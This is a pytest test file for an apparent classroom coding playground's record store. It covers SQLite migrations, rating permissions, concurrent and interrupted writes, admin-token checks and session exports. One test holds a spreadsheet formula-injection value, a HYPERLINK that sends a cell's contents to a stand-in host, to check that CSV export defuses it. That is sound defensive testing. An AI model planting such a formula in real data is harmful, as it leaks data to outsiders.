"""The class record on a real SQLite file: the schema and its migrations, what is kept (and what is not),
ratings and whose they may be, many writers at once, a killed writer, a read-only database and a full disk;
the teacher's tables and CSV; a session taken home as a notebook (validated by nbformat) or Markdown."""

from __future__ import annotations

import csv
import io
import logging
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest
from sqlalchemy import Connection, create_engine, insert, inspect

from playground.errors import AccessError, InputError, RecordError
from playground.record import (
    Entry,
    Journal,
    Record,
    Step,
    check_admin,
    entry_of,
    error_kind,
    export,
    record_url,
    summary,
)
from playground.record.classroom import Asked, Classroom
from playground.record.schema import VERSION, migrate, requests
from playground.record.store import sqlite_engine
from playground.result import Result, Stats, Status
from playground.tasks import Request
from playground.verdict import Item, Verdict

ROOT = Path(__file__).resolve().parent.parent


def url_of(path: Path) -> str:
    return f"sqlite:///{path}"


def entry(number: int = 0, session: str = "s1", **change: object) -> Entry:
    values: dict[str, object] = dict(
        id=f"{number:032x}", session=session, surface="page", task="debug", source_language="python",
        target_language="python", model="qwen", engine="llama-cpp", outcome="done", verdict="pass",
        checks_passed=3, checks_total=3, answers=1, tokens=40, seconds=4.5, first_token=0.8,
        code="def f(): pass", answer="def f(): return 1")
    return Entry(**(values | change))  # type: ignore[arg-type]


def test_an_empty_database_is_built_up_to_the_current_schema(tmp_path: Path) -> None:
    path = tmp_path / "new" / "record.sqlite3"
    record = Record(url_of(path))
    assert record.on and path.exists()
    with sqlite3.connect(path) as db:
        assert db.execute("select version from record_schema").fetchone() == (VERSION,)
        assert db.execute("pragma journal_mode").fetchone() == ("wal",)
        columns = {row[1] for row in db.execute("pragma table_info(requests)")}
    assert columns == {c.name for c in requests.columns}
    record.close()


def test_a_record_of_the_first_schema_is_migrated_and_keeps_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    engine = create_engine(url_of(path))
    assert migrate(engine, up_to=1) == 0
    old = {k: v for k, v in entry(1).__dict__.items() if k not in ("error_kind", "hint_step", "waited", "kind")}
    with engine.begin() as connection:
        connection.execute(insert(requests).values(old | {"created": 1000.0}))
        assert not inspect(connection).has_table("ratings")
    engine.dispose()

    record = Record(url_of(path))
    assert record.on
    rows = record.rows()
    assert [(r["id"], r["created"], r["verdict"], r["error_kind"], r["rating"], r["kind"]) for r in rows] == \
        [(entry(1).id, 1000.0, "pass", None, "", "answer")]  # version 3 says what the old rows were
    record.rate(entry(1).id, "s1", up=False, comment="the test it wrote is wrong")
    assert record.rows()[0]["rating"] == "down"
    record.close()


def test_a_record_newer_than_the_playground_is_left_alone(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "future.sqlite3"
    Record(url_of(path)).close()
    with sqlite3.connect(path) as db:
        db.execute("update record_schema set version = ?", (VERSION + 1,))
    with caplog.at_level(logging.WARNING):
        record = Record(url_of(path))
    assert not record.on and "newer than this playground" in record.off_reason
    assert record.add(entry()) is False
    assert len([r for r in caplog.records if "class record is off" in r.getMessage()]) == 1


def test_code_and_answer_are_kept_only_when_the_teacher_turns_it_on(tmp_path: Path) -> None:
    plain = Record(url_of(tmp_path / "a.sqlite3"))
    plain.add(entry(1))
    assert (plain.rows()[0]["code"], plain.rows()[0]["answer"]) == (None, None)
    assert "not your code" in plain.policy()
    kept = Record(url_of(tmp_path / "b.sqlite3"), keep_code=True)
    kept.add(entry(1))
    assert (kept.rows()[0]["code"], kept.rows()[0]["answer"]) == ("def f(): pass", "def f(): return 1")
    assert "with its code and answer" in kept.policy()


def test_a_student_rates_only_their_own_answer_and_a_second_rating_replaces_the_first(tmp_path: Path) -> None:
    record = Record(url_of(tmp_path / "r.sqlite3"))
    record.add(entry(1, session="alice"))
    with pytest.raises(AccessError, match="only the student who asked"):
        record.rate(entry(1).id, "bob", up=True)
    with pytest.raises(RecordError, match="no answer with that request_id"):
        record.rate("f" * 32, "alice", up=True)
    record.rate(entry(1).id, "alice", up=True, comment="clear")
    record.rate(entry(1).id, "alice", up=False, comment="  on second look\n the loop is wrong  " + "x" * 400)
    row = record.rows()[0]
    assert row["rating"] == "down" and row["comment"].startswith("on second look the loop is wrong x")
    assert len(row["comment"]) == 300
    with sqlite3.connect(tmp_path / "r.sqlite3") as db:
        assert db.execute("select count(*) from ratings").fetchone() == (1,)


def test_thirty_writers_at_once_lose_no_row(tmp_path: Path) -> None:
    record = Record(url_of(tmp_path / "busy.sqlite3"))
    per_writer = 40
    start = threading.Barrier(30)

    def write(writer: int) -> None:
        start.wait()
        for n in range(per_writer):
            number = writer * 1000 + n
            record.add(entry(number, session=f"s{writer}"))
            record.rate(entry(number).id, f"s{writer}", up=n % 2 == 0)

    threads = [threading.Thread(target=write, args=(w,)) for w in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert record.on
    rows = record.rows()
    assert len(rows) == 30 * per_writer == record.count()
    assert sum(row["rating"] == "up" for row in rows) == 30 * per_writer // 2


WRITER = textwrap.dedent("""
    import sys, itertools
    from playground.record import Record
    from tests.test_class_record import entry
    record = Record("sqlite:///" + sys.argv[1], keep_code=True)
    print("ready", flush=True)
    for n in itertools.count():
        record.add(entry(n, code="x = 1\\n" * 2000))
""")


def test_killing_the_app_mid_write_leaves_a_readable_database(tmp_path: Path) -> None:
    path = tmp_path / "killed.sqlite3"
    child = subprocess.Popen([sys.executable, "-c", WRITER, str(path)], cwd=ROOT, stdout=subprocess.PIPE, text=True)
    assert child.stdout is not None and child.stdout.readline().strip() == "ready"
    time.sleep(1.5)  # hundreds of writes, one of them cut short by the kill
    child.send_signal(signal.SIGKILL)
    child.wait(30)
    with sqlite3.connect(path) as db:
        assert db.execute("pragma integrity_check").fetchone() == ("ok",)
        kept = db.execute("select count(*) from requests").fetchone()[0]
    assert kept > 10
    record = Record(url_of(path))
    assert record.on and record.count() == kept
    assert record.add(entry(10**9))


def test_a_read_only_database_turns_the_record_off_with_one_line(tmp_path: Path,
                                                                  caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "ro.sqlite3"
    Record(url_of(path)).close()
    with caplog.at_level(logging.WARNING):
        record = Record(f"sqlite:///file:{path}?mode=ro&uri=true")
        assert record.on and record.add(entry(1))  # put in line; the writer finds the database read-only
        record.flush()
        assert "readonly" in record.off_reason and record.add(entry(2)) is False
        with pytest.raises(RecordError, match="The class record is off"):
            record.rate(entry(1).id, "s1", up=True)
    lines = [r.getMessage() for r in caplog.records if "class record is off" in r.getMessage()]
    assert len(lines) == 1 and "readonly database" in lines[0] and "keeps answering" not in lines[0]
    assert "goes on answering without it" in lines[0]
    assert "nothing you do here is recorded" in record.policy()


def test_a_data_folder_that_cannot_be_made_turns_the_record_off(tmp_path: Path) -> None:
    (tmp_path / "not-a-folder").write_text("a file where the folder should be")
    record = Record(url_of(tmp_path / "not-a-folder" / "record.sqlite3"))
    assert not record.on and "cannot open" in record.off_reason
    assert record.add(entry()) is False and record.rows() == []


FULL_DISK = textwrap.dedent("""
    import resource, signal, sys
    from playground.record import Record
    from tests.test_class_record import entry
    record = Record("sqlite:///" + sys.argv[1], keep_code=True)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG, as on a full disk
    resource.setrlimit(resource.RLIMIT_FSIZE, (256 * 1024, 256 * 1024))
    for n in range(500):
        record.add(entry(n, code="x = 1\\n" * 500))
    record.flush()
    print(record.count(), record.on, record.off_reason, flush=True)
""")


def test_a_full_disk_turns_the_record_off_and_the_writer_goes_on(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-c", FULL_DISK, str(tmp_path / "full.sqlite3")], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    kept, on, reason = done.stdout.strip().split(" ", 2)
    assert int(kept) < 500 and on == "False" and reason.startswith("cannot write to")
    assert done.stderr.count("The class record is off") == 1
    with sqlite3.connect(tmp_path / "full.sqlite3") as db:
        assert db.execute("pragma integrity_check").fetchone() == ("ok",)


def test_the_url_setting() -> None:
    assert record_url("", Path("/data")) == "sqlite:////data/class-record.sqlite3"
    assert record_url(" OFF ", Path("/data")) == "off"
    assert record_url("postgresql+psycopg://u:p@h/db", Path("/data")) == "postgresql+psycopg://u:p@h/db"
    server = Record("postgresql+psycopg://u:secret@127.0.0.1:1/db")  # no driver installed here: off, saying so
    assert server.where == "postgresql+psycopg://u:***@127.0.0.1:1/db" and "secret" not in server.off_reason
    assert not server.on and ("driver is not installed" in server.off_reason or "connect" in server.off_reason)
    assert not Record("off").on and "PLAYGROUND_RECORD_URL=off" in Record("off").policy()


@pytest.mark.parametrize(("message", "kind"), [
    ("Traceback (most recent call last):\n  File \"a.py\", line 2, in f\nZeroDivisionError: division by zero",
     "ZeroDivisionError"),
    ("KeyError raised while handling ValueError: bad", "ValueError"),
    ("TypeError: Cannot read properties of undefined (reading 'length')", "TypeError"),
    ("it prints the wrong number", None),
    ("", None),
])
def test_the_exception_an_error_message_names(message: str, kind: str | None) -> None:
    assert error_kind(message) == kind


def verdict(passed: int, total: int) -> Verdict:
    return Verdict(items=[Item(f"f({n})", n < passed, origin="example") for n in range(total)])


def test_a_request_becomes_a_row_and_a_step_of_its_session(tmp_path: Path) -> None:
    classroom = Classroom(Record(url_of(tmp_path / "c.sqlite3")), admin_token="sekret")
    code = "def mean(xs):\n    return sum(xs) / len(xs)\n"
    request = Request.build("debug", code, language="python", error="ZeroDivisionError: division by zero")
    result = Result(task="debug", language="python", prompt="", model="qwen", engine="llama-cpp",
                    stats=Stats(completion_tokens=30, total_s=3.25, ttft_s=0.5), status=Status.DONE,
                    checks=verdict(2, 3))
    classroom.keep(Asked("a" * 32, "alice", "page", "debug", code, "auto", request, waited=1.5), result)
    classroom.keep(Asked("b" * 32, "alice", "page", "debug", "", "auto"), None, failed=True)
    rows = classroom.record.rows()
    assert [(r["outcome"], r["verdict"], r["checks_passed"], r["checks_total"], r["error_kind"], r["waited"],
             r["tokens"], r["seconds"], r["code"]) for r in rows] == [
        ("done", "fail", 2, 3, "ZeroDivisionError", 1.5, 30, 3.25, None), ("error", "", 0, 0, None, None, 0, 0.0, None)]
    steps = classroom.journal.steps("alice")
    assert [s.outcome for s in steps] == ["done", "error"] and steps[0].code == code
    assert "ZeroDivisionError" in steps[0].given and steps[0].verdict == "fails 1 of 3"
    assert classroom.journal.steps("bob") == []
    with pytest.raises(AccessError):
        classroom.class_csv("")
    table = list(csv.DictReader(io.StringIO(classroom.class_csv("sekret"))))
    assert [t["id"] for t in table] == ["a" * 32, "b" * 32] and tuple(table[0]) == summary.CSV_COLUMNS
    with pytest.raises(InputError, match="rate an answer up or down"):
        classroom.rate("a" * 32, "sideways", "", "alice")
    assert "comment" in classroom.rate("a" * 32, "down", "the fix divides by zero", "alice")


@pytest.mark.parametrize(("token", "configured", "message"), [
    ("", "", "needs an admin token"), ("anything", "", "needs an admin token"),
    ("", "sekret", "Enter the admin token"), ("  ", "sekret", "Enter the admin token"),
    ("sekre", "sekret", "That is not the admin token"),
])
def test_the_admin_token_is_asked_for_in_words_that_say_what_to_do(token: str, configured: str,
                                                                    message: str) -> None:
    with pytest.raises(AccessError, match=message):
        check_admin(token, configured)
    check_admin(" sekret ", "sekret")


def step(n: int, language: str = "python", **change: object) -> Step:
    values: dict[str, object] = dict(
        request_id=f"{n:032x}", created=1_796_000_000.0 + 60 * n, task="Debug", language=language,
        answer_language=language, code="def f(x):\n    return 1 / x\n",
        given="The error message:\n\n```\nZeroDivisionError\n```",
        answer="def f(x):\n    return 0 if x == 0 else 1 / x\n", explanation="", verdict="passes 2/2", outcome="done")
    return Step(**(values | change))  # type: ignore[arg-type]


def test_a_session_taken_home_as_a_notebook_is_valid_and_runs_only_python_cells() -> None:
    name, text = export([step(1), step(2, "javascript", code="const f = (x) => 1 / x;", answer=""),
                         step(3, task="Explain", answer="", explanation="It returns the inverse of x.")], "ipynb")
    assert name.endswith(".ipynb")
    notebook = nbformat.reads(text, as_version=4)
    nbformat.validate(notebook)
    code_cells = [c.source for c in notebook.cells if c.cell_type == "code"]
    assert code_cells == [step(1).code.rstrip(), step(1).answer.rstrip(), step(3).code.rstrip()]
    markdown = "\n".join(c.source for c in notebook.cells if c.cell_type == "markdown")
    assert "## 1. Debug (Python)" in markdown and "checks: passes 2/2" in markdown
    assert "```javascript\nconst f = (x) => 1 / x;\n```" in markdown and "_No answer._" in markdown
    assert "It returns the inverse of x." in markdown


def test_a_session_taken_home_as_markdown_keeps_code_with_backticks_fenced() -> None:
    _, text = export([step(1, code="s = '```'\n")], "md")
    assert "````python\ns = '```'\n````" in text and text.startswith("# Code Playground session")
    with pytest.raises(InputError, match="ipynb"):
        export([step(1)], "pdf")
    with pytest.raises(InputError, match="no requests yet"):
        export([], "md")


def test_the_journal_keeps_each_sessions_newest_steps_only() -> None:
    journal = Journal(per_session=3, sessions=2)
    for n in range(5):
        journal.add("alice", step(n))
    journal.add("bob", step(9))
    journal.add("carol", step(10))
    assert [s.request_id for s in journal.steps("alice")] == []  # the least recent session went
    assert [s.request_id for s in journal.steps("bob")] == [step(9).request_id]
    journal2 = Journal(per_session=3)
    for n in range(5):
        journal2.add("alice", step(n))
    assert [s.request_id for s in journal2.steps("alice")] == [step(n).request_id for n in (2, 3, 4)]


def rows(*specs: tuple[str, str, float, str, str | None]) -> list[dict[str, object]]:
    return [{"id": f"{n:032x}", "task": task, "verdict": verdict, "created": created, "rating": rating,
             "comment": "", "error_kind": kind, "seconds": 10.0, "first_token": 1.0, "tokens": 50, "answers": 1,
             "waited": 12.0, "model": "qwen", "checks_passed": 1, "checks_total": 1}
            for n, (task, verdict, created, rating, kind) in enumerate(specs)]


def test_the_teachers_tables() -> None:
    now = time.time()
    data = rows(("debug", "pass", now - 10, "up", "ZeroDivisionError"), ("debug", "fail", now - 20, "down", "KeyError"),
                ("debug", "", now - 30, "", "ZeroDivisionError"), ("translate", "pass", now - 7200, "", None))
    tasks = summary.per_task(data)
    assert tasks.to_dict("records") == [
        {"task": "debug", "requests": 3, "checked": 2, "passed %": 50, "thumbs up": 1, "thumbs down": 1},
        {"task": "translate", "requests": 1, "checked": 1, "passed %": 100, "thumbs up": 0, "thumbs down": 0}]
    data[2]["kind"] = "explanation"  # one of them a student asked to have explained
    assert summary.errors(data).to_dict("records")[0] == {"error": "ZeroDivisionError", "requests": 2, "explained": 1}
    assert list(summary.rated(data)["rating"]) == ["up", "down"]
    assert summary.per_hour(data)["requests"].sum() == 4
    load = summary.load(data, now, slots=1, engine="llama-cpp")
    assert load.last_hour == 3 and load.waited_p95 == 12.0 and "llama-server" in load.advice
    assert summary.load(data[:1], now, slots=1, engine="llama-cpp").advice  # p95 wait 12 s > 5 s
    quiet = [dict(r, waited=0.0) for r in data]
    assert summary.load(quiet, now, slots=1, engine="llama-cpp").advice == ""


def test_a_rating_through_the_classroom_needs_an_answer() -> None:
    classroom = Classroom(Record("off"))
    with pytest.raises(InputError, match="no answer to rate"):
        classroom.rate("", "up", "", "alice")
    with pytest.raises(RecordError, match="PLAYGROUND_RECORD_URL=off"):
        classroom.rate("a" * 32, "up", "", "alice")
    assert entry_of("x", "s", "cli", "debug", "python", None).outcome == "error"


def test_a_migration_cut_short_leaves_the_version_before_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from playground.record import schema

    path = tmp_path / "cut.sqlite3"
    Record(url_of(path)).close()
    path.unlink()  # a new database, on an engine set up as the record sets it up (store.sqlite_engine)
    engine = sqlite_engine(url_of(path))
    migrate(engine, up_to=1)

    first, second, *later = schema.MIGRATIONS

    def cut_short(connection: Connection) -> None:
        second(connection)  # the real step, then the app dies before the version is written
        raise KeyboardInterrupt

    monkeypatch.setattr(schema, "MIGRATIONS", (first, cut_short, *later))
    with pytest.raises(KeyboardInterrupt):
        migrate(engine)
    with engine.connect() as connection:
        assert schema.version_of(connection) == 1 and not inspect(connection).has_table("ratings")
    engine.dispose()
    monkeypatch.undo()
    record = Record(url_of(path))  # the next start makes the step again, whole
    assert record.on and record.add(entry(1))
    record.rate(entry(1).id, "s1", up=True)
    assert record.rows()[0]["rating"] == "up"


def test_a_write_the_database_refuses_fails_alone_and_the_record_stays_on(tmp_path: Path) -> None:
    record = Record(url_of(tmp_path / "dup.sqlite3"))
    for n in (1, 1, 2):  # the second is the same request again: its primary key is taken
        record.add(entry(n, source_language="x" * 500))
    assert record.on and [r["id"] for r in record.rows()] == [entry(1).id, entry(2).id]
    assert record.rows()[0]["source_language"] == "x" * 32  # cut to its column's width


def test_the_csv_keeps_a_students_formula_as_text() -> None:
    data = rows(("debug", "pass", time.time(), "down", None))
    data[0]["comment"] = '=HYPERLINK("http://x.example/?"&A2, "click")'
    table = list(csv.DictReader(io.StringIO(summary.to_csv(data))))
    assert table[0]["comment"].startswith("'=HYPERLINK(")


def test_a_wait_counts_only_while_in_line() -> None:
    from playground.web.waits import Queued

    clock = [100.0]
    queued = Queued(lambda: clock[0])
    queued.joined(["a", "b"])
    clock[0] = 104.0
    queued.joined(["b"])  # a left the line: it started
    clock[0] = 104.5
    assert queued.started("a") == 4.0  # from joining to leaving the line
    assert queued.started("never-waited") == 0.0
    clock[0] = 130.0
    queued.joined([])  # b left too, but did not start (Stop while queued): forgotten after a while
    clock[0] = 150.0
    queued.joined([])
    assert queued.started("b") == 0.0


def test_hints_and_explanations_are_kept_for_what_they_are(tmp_path: Path) -> None:
    classroom = Classroom(Record(url_of(tmp_path / "tutor.sqlite3")))
    request = Request.build("debug", "def f(x):\n    return 1 / x\n", language="python",
                            error="ZeroDivisionError: division by zero")
    classroom.keep(Asked("a" * 32, "alice", "page", "debug", request.code, "python", request, hint_step=2), None,
                   said="What is `x` when it fails?")
    classroom.keep(Asked("b" * 32, "alice", "page", "debug", request.code, "python", request, explained=True), None,
                   said="You divide by zero on line 2.")
    rows = classroom.record.rows()
    assert [(r["kind"], r["hint_step"], r["outcome"], r["error_kind"]) for r in rows] == [
        ("hint", 2, "done", "ZeroDivisionError"), ("explanation", None, "done", "ZeroDivisionError")]
    steps = classroom.journal.steps("alice")
    assert [s.task for s in steps] == ["Debug, hint step 2", "Debug, the error explained"]
    assert steps[1].explanation == "You divide by zero on line 2."
